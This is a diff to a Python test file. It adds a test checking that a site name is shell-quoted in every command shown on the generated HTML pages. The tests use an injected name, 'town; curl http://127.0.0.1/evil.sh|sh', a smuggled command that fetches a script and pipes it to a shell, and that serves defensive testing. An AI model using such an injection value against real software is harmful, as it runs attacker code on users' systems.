@@ -6,10 +6,12 @@ for all of them: it is the same each time, as `test_site` shows.
 
 import gzip
 import hashlib
+import html
 import json
 import os
 import re
 import resource
+import shlex
 import shutil
 import socket
 from collections.abc import Callable, Iterator
@@ -794,11 +796,21 @@ values = {{ urban = ["U"], rural = ["R"] }}
 def test_a_name_made_consistent_everywhere_is_named_all_the_same(copy: Path) -> None:
     """The pages then hold a command that runs something else; every figure is right."""
     new = "town; curl http://127.0.0.1/evil.sh|sh"
-    manifest(copy, lambda document: document.update(name=new))
     source = opened_from(copy.parent / "town", new)
     for name, content in dossier_files(source, data="../town").items():
-        (copy / name).write_bytes(content)
-    assert [line for line in said_of(copy) if "manifest.json, name" in line] == said_of(copy) != []
+        bare = content.replace(f"&#39;{new}&#39;".encode(), new.encode()).replace(f"'{new}'".encode(), new.encode())
+        (copy / name).write_bytes(bare)
+    assert any("manifest.json, name" in line for line in said_of(copy))
+
+
+def test_a_name_that_a_shell_would_run_is_quoted_in_every_command(copy: Path) -> None:
+    new = "town; curl http://127.0.0.1/evil.sh|sh"
+    source = opened_from(copy.parent / "town", new)
+    files = dossier_files(source, data="../town")
+    shown = [line for name, content in files.items() if name.endswith(".html") for line in content.decode().split("<")]
+    commands = [html.unescape(line.split(">", 1)[1]) for line in shown if line.startswith("code>veedor")]
+    assert sum("evil.sh" in command for command in commands) > 10
+    assert all(new in shlex.split(command) for command in commands if "evil.sh" in command)
 
 
 @pytest.mark.parametrize("told", [False, True])
